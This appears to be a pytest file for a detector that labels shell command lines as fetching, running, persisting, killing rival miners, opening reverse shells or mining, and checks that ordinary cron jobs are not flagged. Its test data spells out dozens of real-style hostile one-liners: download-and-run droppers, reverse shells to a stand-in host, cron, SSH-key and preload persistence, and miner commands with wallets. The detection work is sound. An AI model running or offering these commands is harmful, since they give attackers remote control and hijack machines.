"""Command lines as they stand in cron tables, set-up scripts and attack logs: what each would do, whom it asks, which
files it leaves, whom it calls back; and the jobs of honest machines beside them."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kanaria.mining.deed_files import printed, saved, transfer
from kanaria.mining.deeds import read

HOST = "203.0.113.9"
URL = f"http://{HOST}/x.sh"
XMR = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
ETH = "0x" + "1f" * 20

# name: (command line, the names of its deeds)
DOES: dict[str, tuple[str, str]] = {
    "a family's first lines": (
        f"wget -q http://{HOST}/kinsing -O /tmp/kinsing && chmod 777 /tmp/kinsing && /tmp/kinsing",
        "executable fetch run save",
    ),
    "two downloaders, one shell": (f"(curl -s {URL} || wget -q -O - {URL}) | bash -sh", "fetch pipe"),
    "a set-up script with a wallet": (f"curl -s -L https://{HOST}/setup.sh | bash -s {XMR}", "fetch miner pipe"),
    "a router bot": (
        f"cd /tmp || cd /var/run || cd /mnt; wget http://{HOST}/mips; curl -O http://{HOST}/mips; chmod 777 mips; ./mips r",
        "executable fetch run save",
    ),
    "busybox": (f"cd /tmp; rm -rf *; busybox wget http://{HOST}/arm7; chmod +x arm7; ./arm7", "executable fetch run save"),
    "cron, every quarter of an hour": (
        f'echo "*/15 * * * * curl -s {URL}|sh" > /var/spool/cron/root', "fetch persist pipe",
    ),
    "a key that stays": ('echo "ssh-rsa AAAAB3Nza x" >> /root/.ssh/authorized_keys', "persist"),
    "at reboot": ('(crontab -l 2>/dev/null; echo "@reboot /tmp/.x/kdev") | crontab -', "persist"),
    "preloaded": ("chattr -iae /etc/ld.so.preload; echo /usr/local/lib/libs.so >> /etc/ld.so.preload", "persist"),
    "a unit": ("systemctl enable --now moneroocean_miner.service", "persist"),
    "rivals by name": ("pkill -9 -f xmrig; pkill -9 -f kdevtmpfsi", "kill"),
    "rivals found": ("ps aux | grep -v grep | grep kinsing | awk '{print $2}' | xargs kill -9", "kill"),
    "rivals all": ("killall -9 minerd", "kill"),
    "python fetches and runs": (
        f"python -c 'import urllib2;exec(urllib2.urlopen(\"http://{HOST}/p\").read())'", "fetch run",
    ),
    "python unpacks": ("python3 -c \"import os,base64;exec(base64.b64decode('aW1wb3J0IG9z'))\"", "hidden"),
    "python as filter": (f"wget --quiet --no-check-certificate https://{HOST}/x -O- | python3", "fetch pipe"),
    "perl as filter": (f"curl http://{HOST}:8080/x -o- | perl", "fetch pipe"),
    "bash to a device": (f"bash -i >& /dev/tcp/{HOST}/4444 0>&1", "shell"),
    "netcat with a program": (f"nc -e /bin/sh {HOST} 4444", "shell"),
    "a named pipe": (f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {HOST} 4444 >/tmp/f", "shell"),
    "a named pipe in TLS": (
        f"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {HOST}:443 > /tmp/s", "shell",
    ),
    "socat": (f"socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{HOST}:4444", "shell"),
    "socat the other way round": (f"socat TCP4:{HOST}:4444 EXEC:/bin/sh", "shell"),
    "ncat in TLS": (f"ncat --ssl {HOST} 443 -e /bin/bash", "shell"),
    "a bare port": (f"nc {HOST} 80 > /tmp/x; sh /tmp/x", "fetch run save"),
    "tftp of BusyBox": (f"busybox tftp -g -r x.arm {HOST}", "fetch save"),
    "tftp of tftp-hpa": (f"tftp {HOST} -c get bins.sh; sh bins.sh", "fetch run save"),
    "ftpget": (f"ftpget -v -u anonymous -p anonymous -P 21 {HOST} x.sh y.sh; sh x.sh", "fetch run save"),
    "lwp-download": (f"lwp-download http://{HOST}/bot.pl /tmp/bot.pl; perl /tmp/bot.pl", "fetch run save"),
    "PowerShell, hidden window": (
        f"powershell -w hidden -c \"IEX ((New-Object System.Net.WebClient).DownloadString('{URL}'))\"", "fetch run",
    ),
    "PowerShell, a file": (
        f"powershell.exe -NoP Invoke-WebRequest -Uri {URL} -OutFile C:\\ProgramData\\svc.exe", "fetch save",
    ),
    "certutil": (f"cmd.exe /c certutil -urlcache -split -f http://{HOST}/a.exe %TEMP%\\a.exe", "fetch save"),
    "regsvr32": (f"regsvr32 /s /n /u /i:http://{HOST}/a.sct scrobj.dll", "fetch run"),
    "a scheduled task": (
        f'schtasks /create /sc minute /mo 5 /tn "Update" /tr "powershell -c iex(iwr http://{HOST}/a.ps1)"',
        "fetch persist run",
    ),
    "a container of the host": (
        f'docker run --rm -v /:/mnt alpine chroot /mnt sh -c "curl -s {URL} | bash"', "fetch pipe",
    ),
    "a pod": (f'kubectl run m --image=x -- sh -c "wget -qO- {URL} | sh"', "fetch pipe"),
    # miners by their own options
    "xmrig": (f"nohup /tmp/.ICE-unix/xmrig -o {HOST}:14444 -u {XMR} -k --donate-level 1 >/dev/null 2>&1 &", "miner run"),
    "xmrig by other names": (f"/usr/bin/kthreaddi -a rx/0 -o pool.example.org:443 -u {XMR} -p w --tls", "miner"),
    "xmrig in a container": (f"docker run -d xmrig/xmrig -o pool.example.org:3333 -u {XMR}", "miner"),
    "minerd": (f"minerd -a cryptonight -o stratum+tcp://pool.example.org:3333 -u {XMR} -p x", "miner"),
    "cpuminer": ("cpuminer -a yespower -o stratum+tcp://pool.example.org:3333 -u account.rig", "miner"),
    "cgminer": ("cgminer -o stratum+tcp://btc.example.org:3333 -u account.rig -p x", "miner"),
    "t-rex": ("t-rex -a kawpow -o stratum+tcp://pool.example.org:6060 -u R" + "x" * 33 + ".rig -p x", "miner"),
    "lolMiner": (f"lolMiner --algo ETCHASH --pool pool.example.org:1010 --user {ETH}.rig", "miner"),
    "gminer": ("gminer --algo kawpow --server pool.example.org:6060 --user account.rig", "miner"),
    "gminer called miner": (f"miner --algo etchash --server pool.example.org:6060 --user {ETH}.rig", "miner"),
    "nbminer": ("nbminer -a kawpow -o stratum+tcp://pool.example.org:6060 -u account.rig", "miner"),
    "PhoenixMiner": (f"PhoenixMiner.exe -pool pool.example.org:4444 -wal {ETH}.rig -pass x", "miner"),
    "SRBMiner-MULTI": (f"SRBMiner-MULTI --algorithm randomx --pool pool.example.org:3333 --wallet {XMR}", "miner"),
    "teamredminer": (f"teamredminer -a ethash -o stratum+tcp://pool.example.org:4444 -u {ETH}.r -p x", "miner"),
    "ethminer": (f"ethminer -G -P stratum1+tcp://{ETH}@pool.example.org:4444", "miner"),
    "bzminer": ("bzminer -a kaspa -w kaspa:qq -p stratum+tcp://kas.example.org:4444", "miner"),
    "rigel": ("rigel -a kheavyhash -o stratum+tcp://kas.example.org:4444 -u kaspa:qqqqq -w rig", "miner"),
    "wildrig": ("wildrig-multi --algo ghostrider --url stratum+tcp://rtm.example.org:6000 --user R", "miner"),
    "onezerominer": ("onezerominer --algo dynex --pool pool.example.org:19332 --wallet " + "X" * 97, "miner"),
    "sgminer": ("sgminer -k x11 -o stratum+tcp://pool.example.org:3333 -u account.rig -p x", "miner"),
}  # fmt: skip


@pytest.mark.parametrize("name", DOES)
def test_what_a_command_line_would_do(name: str) -> None:
    line, deeds = DOES[name]
    assert " ".join(sorted(read(line).names)) == deeds


@pytest.mark.parametrize("name", DOES)
@pytest.mark.parametrize("around", ["sudo {}", "nohup {} &", "true && {}", "timeout 9 {}", "{} ; exit 0"])
def test_what_stands_around_it_takes_nothing_away(name: str, around: str) -> None:
    line, deeds = DOES[name]
    assert set(deeds.split()) <= read(around.format(line)).names


JOBS = {
    "a health check": "curl -s http://localhost/health",
    "a page's own cron, looked at": "wget -q --spider https://www.example.com/cron.php?key=abc",
    "a page's own cron, thrown away": "wget -q -O - https://www.example.com/wp-cron.php?doing_wp_cron >/dev/null 2>&1",
    "a page's own cron, deleted": "wget --delete-after -q https://www.example.com/cron.php",
    "a page's own cron by curl": "curl -fsS -o /dev/null https://www.example.com/cron.php",
    "a heartbeat": "curl -fsS -m 10 --retry 5 https://hc.example.com/ping/abc",
    "a chat message": 'curl -X POST https://hooks.example.com/x -d \'{"text":"backup done"}\'',
    "numbers for a graph": "bash /opt/metrics.sh | nc graphite.example.org 2003",
    "one number for a graph": 'echo "a.b 1 $(date +%s)" | nc graphite.example.org 2003',
    "an open port?": "nc -zv db.example.org 5432",
    "a certificate's end": "echo | openssl s_client -connect www.example.com:443 2>/dev/null | openssl x509 -noout -dates",
    "a backup": "tar czf /backup/www.tgz /var/www && rsync -a /backup/ backup@198.51.100.7:/srv/",
    "a dump": "mysqldump --all-databases | gzip > /backup/db.sql.gz",
    "rotated": "/usr/sbin/logrotate /etc/logrotate.conf",
    "old files": "find /var/log -name '*.gz' -mtime +30 -delete",
    "a reload": "systemctl restart nginx",
    "a signal": "kill -HUP 1234",
    "a list of jobs": "crontab -l | grep -v backup",
    "django": "cd /srv/app && /srv/venv/bin/python manage.py clearsessions",
    "laravel": "cd /srv/app && php artisan schedule:run >> /dev/null 2>&1",
    "nextcloud": "php -f /var/www/nextcloud/cron.php",
    "node": "node /srv/app/worker.js --port 3000",
    "java": "java -jar app.jar --server.port=8080 --spring.profiles.active=prod",
    "a build": "git pull && npm ci && npm run build",
    "certbot": "certbot renew --quiet --deploy-hook 'systemctl reload nginx'",
    "an e-mail": "mail -s 'Report 10.1.2026' -a /tmp/report.txt admin@example.com",
    "a client of a database": "mysql --server db.example.org:3306 --user reporting",
    "a compiler": "gcc -O2 -o server server.c -s",
    "a grep for miners": "grep -r 'stratum+tcp' /var/log",
    "a miner stopped": "systemctl stop xmrig.service",
    "a word": "the miner -a said: the pool is closed",
    "instructions": "xmrig -o pool.example.org:3333 -u YOUR_WALLET_ADDRESS -p x",
    "ssh": "ssh -o StrictHostKeyChecking=no deploy@198.51.100.7 uptime",
    "ffmpeg": "ffmpeg -i a.mp4 -o b.mp4 -u x",
    "socat between two ports": "socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80",
}


@pytest.mark.parametrize("name", JOBS)
def test_an_honest_job_delivers_nothing(name: str) -> None:
    deeds = read(JOBS[name])
    assert not deeds.delivers(), deeds
    assert deeds.callback is None


@pytest.mark.parametrize(
    ("line", "callback"),
    [
        (f"bash -i >& /dev/tcp/{HOST}/4444 0>&1", f"{HOST}:4444"),
        (f"nc -e /bin/sh {HOST} 4444", f"{HOST}:4444"),
        (f"ncat {HOST} 443 --exec /bin/bash", f"{HOST}:443"),
        (f"sh -i 2>&1 | nc {HOST} 9001", f"{HOST}:9001"),
        (f"sh -i | openssl s_client -connect {HOST}:8443", f"{HOST}:8443"),
        (f"socat exec:bash tcp:{HOST}:4444", f"{HOST}:4444"),
        (f"socat OPENSSL:{HOST}:443,verify=0 EXEC:/bin/sh", f"{HOST}:443"),
        ("nc -e /bin/sh c2.example.org 4444", "c2.example.org:4444"),
        (f"exec 5<>/dev/tcp/{HOST}/80", f"{HOST}:80"),
    ],
)
def test_whom_a_shell_is_handed_to(line: str, callback: str) -> None:
    assert read(line).callback == callback


@pytest.mark.parametrize(
    ("name", "words", "hosts", "files"),
    [
        ("tftp", f"-g -r x.arm {HOST}", [HOST], ["x.arm"]),
        ("tftp", f"-g -l a -r b.sh {HOST}", [HOST], ["a", "b.sh"]),
        ("tftp", f"{HOST} -c get bins.sh", [HOST], ["bins.sh"]),
        ("tftp", f"-m binary {HOST} -c get bins.sh", [HOST], ["bins.sh"]),
        ("tftp", f"-b 512 -g -r x {HOST}", [HOST], ["x"]),
        ("tftp", "files.example.org -c get b.sh", ["files.example.org"], ["b.sh"]),
        ("ftpget", f"{HOST} x y.sh", [HOST], ["x", "y.sh"]),
        ("ftpget", f"-v -u anonymous -p anonymous -P 21 {HOST} x.sh y.sh", [HOST], ["x.sh", "y.sh"]),
        ("ftpget", f"-u user -p pw {HOST}:2121 x", [f"{HOST}:2121"], ["x"]),
        ("tftp", "", [], []),
        ("ftpget", "-u", [], []),
    ],
)
def test_host_and_files_of_small_downloaders(name: str, words: str, hosts: list[str], files: list[str]) -> None:
    assert transfer(name, words.split()) == (hosts, files)


@pytest.mark.parametrize(
    ("name", "words", "files"),
    [
        ("curl", f"-o /tmp/a {URL}", ["/tmp/a"]), ("curl", f"-so /tmp/a {URL}", ["/tmp/a"]),
        ("curl", f"-o/tmp/a {URL}", ["/tmp/a"]), ("curl", f"--output /tmp/a {URL}", ["/tmp/a"]),
        ("curl", f"--output=/tmp/a {URL}", ["/tmp/a"]), ("curl", f"-O {URL}", []), ("curl", f"-sSLO {URL}", []),
        ("wget", f"-O /tmp/a {URL}", ["/tmp/a"]), ("wget", f"-qO /tmp/a {URL}", ["/tmp/a"]),
        ("wget", f"-O/tmp/a {URL}", ["/tmp/a"]), ("wget", f"--output-document=/tmp/a {URL}", ["/tmp/a"]),
        ("wget", f"-qO- {URL}", ["-"]), ("wget", URL, []),
        ("certutil", f"-urlcache -split -f {URL} C:\\a.exe", ["C:\\a.exe"]),
        ("bitsadmin", f"/transfer j {URL} C:\\a.exe", ["j", "C:\\a.exe"]),
    ],
    ids=lambda value: str(value)[:40],
)  # fmt: skip
def test_files_a_downloader_is_told_to_write(name: str, words: str, files: list[str]) -> None:
    assert list(saved(name, words.split())) == files


@pytest.mark.parametrize(
    ("words", "only"),
    [
        ("-qO- http://a.example/x", True), ("-q -O - http://a.example/x", True), ("--spider http://a.example/", True),
        ("--delete-after http://a.example/", True), ("--output-document=- http://a.example/", True),
        ("--output-document - http://a.example/", True), ("http://a.example/x", False), ("-O x http://a.example/", False),
        ("-q http://a.example/-", False),
    ],
)  # fmt: skip
def test_a_download_that_keeps_nothing(words: str, only: bool) -> None:
    assert printed(words.split()) is only


@pytest.mark.parametrize(
    ("first", "second"), list(itertools.combinations(["a family's first lines", "xmrig", "socat"], 2))
)
@pytest.mark.parametrize("between", [";", "\n", " && ", " || ", " & "])
def test_two_command_lines_do_what_both_do(first: str, second: str, between: str) -> None:
    both = set(DOES[first][1].split()) | set(DOES[second][1].split())
    assert both <= read(DOES[first][0].rstrip("& ") + between + DOES[second][0]).names


@given(st.lists(st.sampled_from(["-g", "-r", "-u", "-P", "x", HOST, "a.b", "", "get", "-"]), max_size=12))
def test_any_words_of_a_small_downloader_are_read(words: list[str]) -> None:
    for name in ("tftp", "ftpget"):
        hosts, files = transfer(name, words)
        assert len(hosts) <= 1
        assert not set(hosts) & set(files)
